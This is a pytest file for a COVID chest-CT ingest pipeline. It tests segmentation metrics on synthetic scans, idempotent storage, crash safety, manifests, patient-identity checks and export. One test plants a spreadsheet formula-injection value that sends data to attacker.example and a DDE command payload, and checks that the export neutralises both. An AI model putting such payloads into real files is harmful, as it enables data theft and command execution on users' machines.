"""Ingest pipeline: accuracy against known truth, idempotence, kill-safety, manifests, CLI, export."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import textwrap
import time
import types
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from covidtrack import io
from covidtrack import store as S
from covidtrack.__main__ import main as cli_main
from covidtrack.errors import InputError
from covidtrack.events import Progress
from covidtrack.pipeline import drain, export_metrics, ingest, ingest_manifest
from covidtrack.segment.types import Segmentation
from covidtrack.volume import Volume

SPACING = (5.0, 6.0, 6.0)  # z, y, x mm: small arrays, adult-sized lungs


def synthetic_chest(lesion_shift: int = 0) -> tuple[Volume, Segmentation]:
    """A 32x48x48 chest: body 40 HU, two ellipsoid lungs -850 HU, one GGO (-550 HU) and one
    consolidation (20 HU) blob in the right lung. Returns the volume and its exact truth."""
    shape = (32, 48, 48)
    z, y, x = np.meshgrid(*(np.arange(n, dtype=float) for n in shape), indexing="ij")
    hu = np.full(shape, -1000, np.int16)
    body = ((y - 24) / 20) ** 2 + ((x - 24) / 22) ** 2 <= 1
    hu[body] = 40
    lungs = np.zeros(shape, np.uint8)
    for label, cx in ((1, 14.5), (2, 33.5)):  # right lung on the low-x side (canonical x: R -> L)
        inside = ((z - 15.5) / 13) ** 2 + ((y - 24) / 12) ** 2 + ((x - cx) / 7.5) ** 2 <= 1
        lungs[inside] = label
    hu[lungs > 0] = -850
    inf = np.zeros(shape, np.uint8)
    ggo = (((z - 12 - lesion_shift) / 4) ** 2 + ((y - 24) / 5) ** 2 + ((x - 13) / 4) ** 2 <= 1) & (lungs == 1)
    cons = (((z - 20) / 2) ** 2 + ((y - 20) / 3) ** 2 + ((x - 16) / 3) ** 2 <= 1) & (lungs == 1)
    inf[ggo], hu[ggo] = 1, -550
    inf[cons], hu[cons] = 2, 20
    lobes = np.where(lungs == 1, np.where(z >= 18, 1, 3), np.where(lungs == 2, np.where(z >= 16, 4, 5), 0)).astype(np.uint8)
    lobes[(lungs == 1) & (z >= 14) & (z < 18) & (y < 22)] = 2
    vol = Volume(array=hu, spacing=SPACING)
    return vol, Segmentation(lungs=lungs, infection=inf, lobes=lobes, model_versions={"lungs": "truth/v0", "infection": "truth/v0"})


def truth_segmenter(vol: Volume, progress=None) -> Segmentation:
    """The exact truth of :func:`synthetic_chest`, recovered from the HU values it was drawn
    with (so the same function works on every variant written to disk and read back)."""
    if progress is not None:
        progress(Progress("segment", 0.5, "truth"))
    hu = vol.array
    _, ref = synthetic_chest()
    lungs = ref.lungs.copy()
    inf = np.zeros_like(lungs)
    inf[(hu == -550) & (lungs > 0)] = 1
    inf[(hu == 20) & (lungs > 0)] = 2
    return Segmentation(lungs=lungs, infection=inf, lobes=ref.lobes, model_versions=ref.model_versions)


def _write(vol: Volume, path: Path) -> Path:
    S.write_canonical(path, vol)
    return path


def _files(home: Path) -> set[Path]:
    return {p.resolve() for d in ("scans", "masks") if (home / d).is_dir() for p in (home / d).iterdir()}


def test_ingest_path_stores_true_numbers(tmp_path: Path) -> None:
    vol, truth = synthetic_chest()
    path = _write(vol, tmp_path / "chest.nii.gz")
    events: list[Progress] = []
    result = drain(ingest(path, "PAT-001", "2020-03-14", arm="treated", alias="Alice", segmenter=truth_segmenter), events.append)
    assert result.created and events[-1].stage == "done" and events[-1].item == result.scan_id
    fractions = [e.fraction for e in events]
    assert fractions == sorted(fractions) and fractions[-1] == 1.0
    assert {"load", "segment", "metrics", "store", "done"} <= {e.stage for e in events}

    from covidtrack import metrics as M

    expected = M.scan_metrics(vol, truth).set_index(["region", "metric"]).value
    with S.Store.open() as store:
        assert store.patients().patient_key.item() == io.patient_key("PAT-001") != "PAT-001"
        assert store.patients().alias.item() == "Alice"
        got = store.metrics([result.scan_id]).set_index(["region", "metric"]).value
        pd.testing.assert_series_equal(got.sort_index(), expected.sort_index(), check_names=False)
        assert got["whole", "poi"] > 1.0 and got["whole", "severity_score"] >= 2
        # what registration and the dashboard reread is exactly what was measured
        again = store.load_volume(result.scan_id)
        assert np.array_equal(again.array, vol.array) and again.spacing == SPACING
        seg = store.load_segmentation(result.scan_id)
        assert np.array_equal(seg.infection, truth.infection) and np.array_equal(seg.lobes, truth.lobes)
        assert store.scans().study_date.item() == pd.Timestamp("2020-03-14")


def test_idempotent_by_content_hash(tmp_path: Path) -> None:
    vol, _ = synthetic_chest()
    path = _write(vol, tmp_path / "chest.nii.gz")
    first = drain(ingest(path, "P1", "2020-03-14", segmenter=truth_segmenter))
    with S.Store.open() as store:
        counts = store.counts()
        files = _files(store.home)
    # same pixels from another file, and as an in-memory Volume
    second = drain(ingest(_write(vol, tmp_path / "copy.nii.gz"), "P1", "2020-03-14", segmenter=truth_segmenter))
    third = drain(ingest(vol, "P1", "2020-03-14", segmenter=truth_segmenter))
    assert first.created and not second.created and not third.created
    assert first.scan_id == second.scan_id == third.scan_id
    with S.Store.open() as store:
        assert store.counts() == counts and _files(store.home) == files
        with pytest.raises(InputError, match="another patient"):
            drain(ingest(vol, "P2", "2020-03-14", store=store, segmenter=truth_segmenter))
        # a different date for the same scan is a conflict, not silently ignored; a bad date is
        # named as such even for a scan that is already stored
        with pytest.raises(InputError, match="dated 2020-03-14, not 2020-03-15"):
            drain(ingest(vol, "P1", "2020-03-15", store=store, segmenter=truth_segmenter))
        with pytest.raises(InputError, match="YYYY-MM-DD"):
            drain(ingest(vol, "P1", "notadate", store=store, segmenter=truth_segmenter))
        with pytest.raises(InputError, match="alias 'Ann' already names patient"):
            store.set_patient(store.patients().patient_key.iloc[0], alias="Ann")
            other, _ = synthetic_chest(lesion_shift=3)
            drain(ingest(other, "P9", "2020-03-20", alias="Ann", store=store, segmenter=truth_segmenter))
        events: list[Progress] = []
        again = drain(ingest(vol, "P1", None, arm="B", store=store, segmenter=truth_segmenter), events.append)
        assert not again.created and "arm set to 'B'" in events[-1].message
        assert store.counts() == counts


def test_bad_date_and_bad_file_are_input_errors(tmp_path: Path) -> None:
    vol, _ = synthetic_chest()
    with pytest.raises(InputError, match="YYYY-MM-DD"):
        drain(ingest(vol, "P1", "14/03/2020", segmenter=truth_segmenter))
    with pytest.raises(InputError, match="--date"):
        drain(ingest(vol, "P1", None, segmenter=truth_segmenter))
    for implausible in ("1850-01-01", "2999-01-01"):
        with pytest.raises(InputError, match="implausible"):
            drain(ingest(vol, "P1", implausible, segmenter=truth_segmenter))
    with pytest.raises(InputError):
        drain(ingest(tmp_path / "missing.nii.gz", "P1", "2020-03-14", segmenter=truth_segmenter))
    with S.Store.open() as store:
        assert store.counts()["scans"] == 0 and not _files(store.home)


def test_manifest_continues_past_bad_files(tmp_path: Path) -> None:
    a, _ = synthetic_chest()
    b, _ = synthetic_chest(lesion_shift=3)
    _write(a, tmp_path / "a.nii.gz")
    _write(b, tmp_path / "b.nii.gz")
    (tmp_path / "broken.nii.gz").write_bytes(b"not an image")
    manifest = tmp_path / "m.csv"
    manifest.write_text(
        "patient,date,path,arm\n"
        "P1,2020-03-01,a.nii.gz,treated\n"
        "P1,2020-03-01,broken.nii.gz,treated\n"
        "P1,2020-03-09,b.nii.gz,treated\n"
        "P2,2020-03-02,nowhere.nii.gz,control\n"
    )
    events: list[Progress] = []
    summary = drain(ingest_manifest(manifest, segmenter=truth_segmenter, register=False), events.append)
    assert len(summary.ok) == 2 and all(r.created for r in summary.ok)
    assert [Path(p).name for p, _ in summary.failed] == ["broken.nii.gz", "nowhere.nii.gz"]
    assert all("Fix:" in msg for _, msg in summary.failed)
    assert events[-1].stage == "summary" and "2 failed" in events[-1].message
    with S.Store.open() as store:
        assert store.counts()["scans"] == 2
        assert list(store.scans().day) == [0, 8]

    bad = tmp_path / "bad.csv"
    bad.write_text("who,when\nx,y\n")
    with pytest.raises(InputError, match="patient"):
        drain(ingest_manifest(bad, segmenter=truth_segmenter))
    assert [msg.split(":")[0] for _, msg in summary.failed] == ["line 3", "line 5"]


def test_manifest_is_checked_whole_before_anything_is_stored(tmp_path: Path) -> None:
    a, _ = synthetic_chest()
    _write(a, tmp_path / "a.nii.gz")
    # an empty path would otherwise resolve to the manifest's own folder and ingest it
    empty = tmp_path / "empty.csv"
    empty.write_text("patient,date,path\nP1,2020-03-01,a.nii.gz\nP2,2020-03-02,\n,2020-03-03,a.nii.gz\n")
    with pytest.raises(InputError, match="line 3: path is empty; line 4: patient is empty"):
        drain(ingest_manifest(empty, segmenter=truth_segmenter))
    latin1 = tmp_path / "latin1.csv"
    latin1.write_bytes("patient,date,path,alias\nP1,2020-03-01,a.nii.gz,Jos\u00e9\n".encode("latin-1"))
    with pytest.raises(InputError, match="not UTF-8.*CSV UTF-8"):
        drain(ingest_manifest(latin1, segmenter=truth_segmenter))
    with pytest.raises(InputError, match="is a folder"):
        drain(ingest_manifest(tmp_path, segmenter=truth_segmenter))
    with S.Store.open() as store:
        assert store.counts()["scans"] == 0
    # Excel's "Unicode text" (UTF-16 with BOM) is read
    utf16 = tmp_path / "utf16.csv"
    utf16.write_bytes("patient,date,path,alias\nP1,2020-03-01,a.nii.gz,Jos\u00e9\n".encode("utf-16"))
    summary = drain(ingest_manifest(utf16, segmenter=truth_segmenter, register=False))
    assert len(summary.ok) == 1 and not summary.failed


def test_registration_hook(monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[str] = []

    def register_followup(store, scan_id, progress=None):  # the registration engineer's signature
        calls.append(scan_id)
        if progress is not None:
            progress(Progress("register", 0.5, "fake"))
        if scan_id == "fail-me":
            raise RuntimeError("boom")

    monkeypatch.setitem(sys.modules, "covidtrack.longitudinal", types.SimpleNamespace(register_followup=register_followup))
    base, _ = synthetic_chest()
    follow, _ = synthetic_chest(lesion_shift=2)
    early, _ = synthetic_chest(lesion_shift=4)
    r1 = drain(ingest(base, "P1", "2020-03-05", segmenter=truth_segmenter))
    assert calls == [] and r1.registered == ()  # a baseline alone: nothing to register
    r2 = drain(ingest(follow, "P1", "2020-03-12", segmenter=truth_segmenter))
    assert calls == [r2.scan_id] and r2.registered == (r2.scan_id,)
    calls.clear()
    r3 = drain(ingest(early, "P1", "2020-03-01", segmenter=truth_segmenter))  # new baseline
    assert sorted(calls) == sorted([r1.scan_id, r2.scan_id])

    def failing(store, scan_id, progress=None):
        raise RuntimeError("ants exploded")

    monkeypatch.setitem(sys.modules, "covidtrack.longitudinal", types.SimpleNamespace(register_followup=failing))
    late, _ = synthetic_chest(lesion_shift=5)
    r4 = drain(ingest(late, "P1", "2020-03-20", segmenter=truth_segmenter))
    assert r4.created and r4.registered == () and "ants exploded" in r4.warnings[0]
    with S.Store.open() as store:
        assert store.counts()["scans"] == 4  # the failed registration did not lose the scan
    assert r3.created

    def qa_fails(store, scan_id, progress=None):
        return types.SimpleNamespace(ok=False, moving_scan=scan_id)

    monkeypatch.setitem(sys.modules, "covidtrack.longitudinal", types.SimpleNamespace(register_followup=qa_fails))
    last, _ = synthetic_chest(lesion_shift=6)
    r5 = drain(ingest(last, "P1", "2020-03-27", segmenter=truth_segmenter))
    assert r5.created and "failed its quality check" in r5.warnings[0]


_KILL_SCRIPT = textwrap.dedent(
    """
    import sys, time
    from pathlib import Path
    sys.path.insert(0, {tests!r})
    from test_pipeline import truth_segmenter
    from covidtrack import store as S
    from covidtrack.pipeline import drain, ingest

    marker = Path({marker!r})
    point = {point!r}

    def slow_segmenter(vol, progress=None):
        if point == "segment":
            marker.touch(); time.sleep(60)
        return truth_segmenter(vol, progress)

    original = S.Store._insert_metrics
    def in_transaction(self, cur, seg, metrics):
        original(self, cur, seg, metrics)   # scan + segmentation + metric rows inserted, not committed
        if point == "transaction":
            marker.touch(); time.sleep(60)
    S.Store._insert_metrics = in_transaction

    original_put = S.FileStage.put
    def put(self, final, writer):
        out = original_put(self, final, writer)
        if point == "files" and len(self.placed) == 2:   # volume and lung mask in place, rest not
            marker.touch(); time.sleep(60)
        return out
    S.FileStage.put = put

    drain(ingest({path!r}, "P1", "2020-03-14", segmenter=slow_segmenter))
    """
)


@pytest.mark.parametrize("point", ["segment", "files", "transaction"])
def test_kill_mid_ingest_leaves_no_trace(tmp_path: Path, point: str) -> None:
    vol, truth = synthetic_chest()
    path = _write(vol, tmp_path / "chest.nii.gz")
    marker = tmp_path / "reached"
    script = _KILL_SCRIPT.format(tests=str(Path(__file__).parent), marker=str(marker), point=point, path=str(path))
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parent.parent)}
    proc = subprocess.Popen([sys.executable, "-c", script], env=env, stderr=subprocess.PIPE)
    deadline = time.time() + 60
    while not marker.exists():
        if proc.poll() is not None:
            pytest.fail(f"ingest subprocess ended early: {proc.stderr.read().decode()[-2000:]}")
        assert time.time() < deadline, "subprocess never reached the kill point"
        time.sleep(0.05)
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=30)

    with S.Store.open() as store:  # the open cleans what the killed process left
        assert store.counts()["scans"] == 0 and store.counts()["metrics"] == 0
        assert not _files(store.home)
    result = drain(ingest(path, "P1", "2020-03-14", segmenter=truth_segmenter))
    with S.Store.open() as store:
        counts = store.counts()
        assert counts["scans"] == 1 and counts["segmentations"] == 1 and counts["patients"] == 1
        from covidtrack import metrics as M

        assert counts["metrics"] == len(M.scan_metrics(vol, truth))
        assert _files(store.home) == store.referenced_files()
        assert store.scans().scan_id.item() == result.scan_id


def test_cli_ingest_manifest_and_export(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    vol, _ = synthetic_chest()
    _write(vol, tmp_path / "a.nii.gz")
    (tmp_path / "bad.nii.gz").write_bytes(b"junk")
    drain(ingest(tmp_path / "a.nii.gz", "P1", "2020-03-01", arm="control", segmenter=truth_segmenter))
    manifest = tmp_path / "m.csv"
    manifest.write_text("patient,date,path,arm\nP2,2020-03-01,bad.nii.gz,treated\nP1,2020-03-01,a.nii.gz,control\n")
    # the CLI uses the default segmenter; both rows avoid it (bad file, already stored scan)
    assert cli_main(["ingest-manifest", str(manifest), "--no-register"]) == 1
    out = capsys.readouterr()
    assert "1 failed" in out.out and "bad.nii.gz" in out.out and "already stored" in out.err + out.out

    for fmt in ("csv", "parquet"):
        assert cli_main(["export", str(tmp_path / fmt), "--format", fmt]) == 0
    long = pd.read_csv(tmp_path / "csv" / "metrics_long.csv")
    wide = pd.read_parquet(tmp_path / "parquet" / "metrics_wide.parquet")
    assert {"patient_key", "arm", "study_date", "region", "metric", "value", "unit", "model_version"} <= set(long.columns)
    assert len(wide) == 1 and wide["arm"].item() == "control"
    assert wide["whole_poi"].item() == pytest.approx(long.query("region == 'whole' and metric == 'poi'").value.item())
    with S.Store.open() as store:
        assert export_metrics(tmp_path / "all", "csv", all_versions=True, store=store)[0].exists()
        scan_id, key = store.scans().scan_id.item(), store.scans().patient_key.item()
    assert cli_main(["patients", "--scans"]) == 0
    listing = capsys.readouterr().out
    assert key in listing and scan_id in listing and "control" in listing and "2020-03-01" in listing


def test_real_default_segmenter_end_to_end(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The product's own segmentation through the CLI (skips until covidtrack.segment.api and
    shipped models exist)."""
    pytest.importorskip("covidtrack.segment.api")
    from covidtrack import modelstore
    from covidtrack.errors import ModelError

    try:
        modelstore.active("lungs")
        modelstore.active("infection")
    except ModelError as err:
        pytest.skip(f"no shipped models yet: {err}")
    vol, truth = synthetic_chest()
    path = _write(vol, tmp_path / "chest.nii.gz")
    assert cli_main(["ingest", str(path), "--patient", "P9", "--date", "2020-04-01", "--arm", "treated"]) == 0
    scan_id = capsys.readouterr().out.split()[0]
    with S.Store.open() as store:
        m = store.metrics([scan_id]).set_index(["region", "metric"]).value
        assert m["whole", "lung_volume"] > 0
        assert store.segmentation(scan_id).model_versions  # model names recorded with the masks
        assert set(store.metrics([scan_id]).model_version) != {""}


def test_concurrent_duplicate_ingest_keeps_one(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Two ingests of one scan racing past the hash check: one stores, the other reports it."""
    vol, _ = synthetic_chest()
    with S.Store.open() as store:
        first = drain(ingest(vol, "P1", "2020-03-14", store=store, segmenter=truth_segmenter))
        real, calls = store.scan_by_hash, []

        def blind_first_check(content_hash: str):
            calls.append(content_hash)
            return None if len(calls) == 1 else real(content_hash)  # the racing ingest saw nothing

        monkeypatch.setattr(store, "scan_by_hash", blind_first_check)
        from covidtrack import pipeline

        monkeypatch.setattr(pipeline, "_check_one_scan_per_date", lambda *a: None)  # it raced past this too
        again = drain(ingest(vol, "P1", "2020-03-14", store=store, segmenter=truth_segmenter))
        assert not again.created and again.scan_id == first.scan_id
        assert store.counts()["scans"] == 1 and _files(store.home) == store.referenced_files()


def _with_identity(vol: Volume, patient_id: str, sex: str) -> Volume:
    from dataclasses import replace

    return replace(vol, meta=replace(vol.meta, patient_key=io.patient_key(patient_id), patient_sex=sex))


def test_follow_up_of_another_person_is_refused_then_flagged_when_accepted(tmp_path: Path) -> None:
    from covidtrack import metrics
    from covidtrack.report import data

    base, _ = synthetic_chest()
    follow, _ = synthetic_chest(lesion_shift=2)
    third, _ = synthetic_chest(lesion_shift=4)
    with S.Store.open() as store:
        drain(ingest(_with_identity(base, "HOSP-1", "F"), "study-001", "2020-03-01", store=store, segmenter=truth_segmenter))
        counts, files = store.counts(), _files(store.home)
        # another hospital ID under the same study patient: refused before segmenting, nothing stored
        with pytest.raises(InputError, match="PatientID differs from that of this patient's scan") as err:
            drain(ingest(_with_identity(follow, "HOSP-2", "F"), "study-001", "2020-03-09", store=store, segmenter=truth_segmenter))
        assert "--accept-other-id" in str(err.value)
        with pytest.raises(InputError, match=r"PatientSex \(M\) differs"):
            drain(ingest(_with_identity(follow, "HOSP-1", "M"), "study-001", "2020-03-09", store=store, segmenter=truth_segmenter))
        # the same hospital ID filed under a second study patient: the same person twice
        with pytest.raises(InputError, match="PatientID is that of another patient, "):
            drain(ingest(_with_identity(follow, "HOSP-1", "F"), "study-002", "2020-03-09", store=store, segmenter=truth_segmenter))
        assert store.counts() == counts and _files(store.home) == files
        # consistent identity, unknown sex ("O" or absent) and files without identity all pass
        drain(ingest(_with_identity(follow, "HOSP-1", "O"), "study-001", "2020-03-09", store=store, segmenter=truth_segmenter))
        drain(ingest(third, "study-001", "2020-03-20", store=store, segmenter=truth_segmenter))
        assert store.counts()["scans"] == 3

        # accepted: stored, warned, and flagged on this scan only, also after a re-measurement
        other, _ = synthetic_chest(lesion_shift=-3)
        result = drain(ingest(_with_identity(other, "HOSP-2", "M"), "study-001", "2020-04-01", store=store,
                              segmenter=truth_segmenter, accept_other_id=True))
        assert result.created and "PatientID differs" in result.warnings[0] and "PatientSex" in result.warnings[0]
        rows = store.metrics(model_version=None)
        flags = rows[(rows.metric == metrics.FLAG_IDENTITY) & (rows.region == "whole")].set_index("scan_id")["value"]
        assert flags[result.scan_id] == 1.0 and (flags.drop(result.scan_id) == 0.0).all()
        # the accepted scan is no reference: the patient's own ID still passes after it
        fifth, _ = synthetic_chest(lesion_shift=5)
        drain(ingest(_with_identity(fifth, "HOSP-1", "F"), "study-001", "2020-04-08", store=store, segmenter=truth_segmenter))
        reloaded = store.load_volume(result.scan_id)
        assert "accepted at import" in reloaded.meta.identity_note
        assert metrics.quality_flags(reloaded, store.load_segmentation(result.scan_id))[metrics.FLAG_IDENTITY] == 1.0
        frame = store.patient_metrics(result.patient_key)
        lines = data.flag_lines(frame.assign(study_date=pd.to_datetime(frame["study_date"])))
        assert any("patient ID or sex differs" in line and "2020-04-01" in line for line in lines)
        # the raw hospital ID is never stored, only its salted hash
        meta = store.scans(result.patient_key)["meta"].str.cat()
        assert "HOSP-" not in meta and io.patient_key("HOSP-1") in meta


def test_dicom_identity_is_read_and_checked_through_the_cli(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    from covidtrack import pipeline
    from tests.dicomgen import phantom_array, write_series

    monkeypatch.setattr(pipeline, "_default_segmenter", lambda: _box_segmenter)
    write_series(tmp_path / "d1", phantom_array(seed=1), patient_id="MRN-7", patient_sex="F", study_date="20200301")
    write_series(tmp_path / "d2", phantom_array(seed=2), patient_id="MRN-8", patient_sex="F", study_date="20200310")
    vol = io.load_ct(tmp_path / "d1")
    assert vol.meta.patient_sex == "F" and vol.meta.patient_key == io.patient_key("MRN-7")
    assert cli_main(["ingest", str(tmp_path / "d1"), "--patient", "S1", "--no-register"]) == 0
    assert cli_main(["ingest", str(tmp_path / "d2"), "--patient", "S1", "--no-register"]) == 2
    assert "PatientID differs" in capsys.readouterr().err
    assert cli_main(["ingest", str(tmp_path / "d2"), "--patient", "S1", "--no-register", "--accept-other-id"]) == 0
    assert "flagged" in capsys.readouterr().err


def _box_segmenter(vol: Volume, progress=None) -> Segmentation:
    """Lungs = everything below -500 HU inside the middle of the image (enough for the flow)."""
    lungs = np.zeros(vol.shape, np.uint8)
    body = vol.array < -500
    mid = vol.shape[2] // 2
    lungs[:, :, :mid][body[:, :, :mid]] = 1
    lungs[:, :, mid:][body[:, :, mid:]] = 2
    lungs[:, :2] = 0
    return Segmentation(lungs=lungs, infection=np.zeros(vol.shape, np.uint8), lobes=None, model_versions={"lungs": "box/v0"})


def test_one_scan_per_date_and_remove_scan(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    vol, _ = synthetic_chest()
    other, _ = synthetic_chest(lesion_shift=2)
    first = drain(ingest(vol, "P1", "2020-03-01", segmenter=truth_segmenter))
    with pytest.raises(InputError, match=f"already has scan {first.scan_id} dated 2020-03-01") as err:
        drain(ingest(other, "P1", "2020-03-01", segmenter=truth_segmenter))
    assert f"remove-scan {first.scan_id}" in str(err.value)
    drain(ingest(other, "P2", "2020-03-01", segmenter=truth_segmenter))  # another patient's scan that day is fine
    # remove-scan says what it would do, and does it only with --yes
    assert cli_main(["remove-scan", first.scan_id]) == 1
    assert "add --yes" in capsys.readouterr().out
    with S.Store.open() as store:
        assert first.scan_id in set(store.scans()["scan_id"])
    assert cli_main(["remove-scan", first.scan_id, "--yes"]) == 0
    assert "no scans left" in capsys.readouterr().out
    with S.Store.open() as store:
        assert set(store.scans()["patient_key"]) == {io.patient_key("P2")}
        assert len(_files(store.home)) == 4  # P2's volume and its three masks
    third, _ = synthetic_chest(lesion_shift=-2)
    assert drain(ingest(third, "P1", "2020-03-01", segmenter=truth_segmenter)).created  # the date is free again
    assert cli_main(["remove-scan", "scan-nope", "--yes"]) == 2


def test_an_implausible_date_in_the_file_is_refused_unless_a_date_is_given(tmp_path: Path) -> None:
    import datetime as dt
    from dataclasses import replace

    vol, _ = synthetic_chest()
    for day in (dt.date(1900, 1, 1), dt.date(2099, 12, 31)):  # what anonymisers write
        anonymised = replace(vol, meta=replace(vol.meta, study_date=day))
        with pytest.raises(InputError, match="study date in the file.*implausible"):
            drain(ingest(anonymised, "P1", None, segmenter=truth_segmenter))
    assert drain(ingest(anonymised, "P1", "2020-03-14", segmenter=truth_segmenter)).created


def test_an_abandoned_progress_generator_waits_for_its_worker() -> None:
    """A dashboard run interrupted by a click closes the pipeline generator; its worker thread
    uses the run's store, so closing must wait until the worker has finished (the run then
    releases the store)."""
    import threading as th

    from covidtrack import pipeline

    finished = th.Event()

    def slow(cb):
        cb(pipeline.Progress("register", 0.1, "working"))
        time.sleep(0.5)
        finished.set()
        return "done"

    gen = pipeline._in_thread(slow, "register", 0.0, 1.0, "item")
    next(gen)
    gen.close()
    assert finished.is_set()


def test_the_store_is_free_while_a_scan_is_segmented(tmp_path: Path) -> None:
    """A command-line ingest lets other processes (the dashboard) use the store while it segments,
    and checks again afterwards: a scan stored meanwhile on the same date is refused, nothing of
    this ingest is stored."""
    vol, truth = synthetic_chest()
    path = _write(vol, tmp_path / "chest.nii.gz")
    other, _ = synthetic_chest(lesion_shift=2)
    other_path = _write(other, tmp_path / "other.nii.gz")
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parent.parent)}
    script = ("from covidtrack.store import Store\n"
              "with Store.open(wait_s=0) as s:\n"
              "    s.set_patient('someone-else', arm='x')\n")

    def segmenter_with_visitor(v: Volume, progress=None) -> Segmentation:
        done = subprocess.run([sys.executable, "-c", script], env=env, capture_output=True, text=True, timeout=120)
        assert done.returncode == 0, done.stderr[-2000:]  # the store was free while segmenting
        return truth_segmenter(v, progress)

    drain(ingest(path, "P1", "2020-03-14", segmenter=segmenter_with_visitor))

    def segmenter_racing(v: Volume, progress=None) -> Segmentation:
        # meanwhile another import stores a scan of the same patient on the same date
        drain(ingest(other_path, "P1", "2020-03-20", segmenter=truth_segmenter, register=False))
        return truth_segmenter(v, progress)

    vol3, _ = synthetic_chest(lesion_shift=4)
    path3 = _write(vol3, tmp_path / "third.nii.gz")
    with pytest.raises(InputError, match="a date is one timepoint"):
        drain(ingest(path3, "P1", "2020-03-20", segmenter=segmenter_racing))
    with S.Store.open() as store:
        key = io.patient_key("P1")
        assert len(store.scans(key)) == 2  # the first ingest and the racing one; nothing of the third
        assert "someone-else" in set(store.patients()["patient_key"])
        assert _files(store.home) == store.referenced_files()


def test_file_and_folder_names_are_not_stored(tmp_path: Path) -> None:
    # exports are often named after the patient: the store keeps the format, not the name
    vol, _ = synthetic_chest()
    path = _write(vol, tmp_path / "MRN445566_SMITH_ANNA_2020-03-14.nii.gz")
    drain(ingest(path, "MRN445566", "2020-03-14", segmenter=truth_segmenter))
    with S.Store.open() as store:
        scans = store.scans()
        assert scans.source_name.item() == "nifti"
        assert "SMITH" not in scans.meta.item() and "MRN445566" not in scans.meta.item()
        db = store.path
    assert b"SMITH" not in db.read_bytes() and b"MRN445566" not in db.read_bytes()


def test_ingest_warns_about_the_public_default_salt(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    from covidtrack.cli.ingest import _warn_default_salt

    monkeypatch.delenv("COVIDTRACK_SALT", raising=False)
    _warn_default_salt()
    assert "COVIDTRACK_SALT is not set" in capsys.readouterr().err
    monkeypatch.setenv("COVIDTRACK_SALT", "a-site-secret")
    _warn_default_salt()
    assert capsys.readouterr().err == ""


def test_export_is_safe_in_a_spreadsheet_and_says_its_units(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import csv

    from covidtrack.report.synthetic import populate_store

    monkeypatch.setenv("COVIDTRACK_HOME", str(tmp_path / "home"))
    with S.Store.open() as store:
        keys = populate_store(store, n_patients=3, n_scans=1, shape=(24, 64, 64))
        store.set_patient(keys[0], alias='=HYPERLINK("https://attacker.example/?d="&A2,"open")')
        store.set_patient(keys[1], arm="+cmd|' /C calc'!A0")
        paths = export_metrics(tmp_path / "csv", "csv", store=store)
        export_metrics(tmp_path / "pq", "parquet", store=store)
    assert [p.name for p in paths] == ["metrics_long.csv", "metrics_wide.csv", "metrics_units.csv", "change_vs_baseline.csv"]
    for path in paths:
        with open(path, newline="", encoding="utf-8") as fh:
            cells = [c for row in csv.reader(fh) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@")], path.name
        # shown as text, not dropped (one scan per patient: no change vs baseline rows)
        assert "'=HYPERLINK" in " ".join(cells) or path.name in ("metrics_units.csv", "change_vs_baseline.csv")
    long = pd.read_parquet(tmp_path / "pq" / "metrics_long.parquet")
    wide = pd.read_parquet(tmp_path / "pq" / "metrics_wide.parquet")
    units = pd.read_parquet(tmp_path / "pq" / "metrics_units.parquet").set_index("column")["unit"]
    # "no alias / no arm" is marked the same way in both tables
    no_alias_long = set(long.loc[long["alias"].isna(), "patient_key"])
    assert no_alias_long == set(wide.loc[wide["alias"].isna(), "patient_key"]) == set(keys[1:])
    assert units["whole_poi"] == "%" and units["whole_infection_volume"] == "mL" and units["whole_infection_mean_hu"] == "HU"
    assert set(wide.columns) - set(units.index) == {"patient_key", "alias", "arm", "scan_id", "study_date", "day",
                                                    "model_version", "seg_id", "kind"}
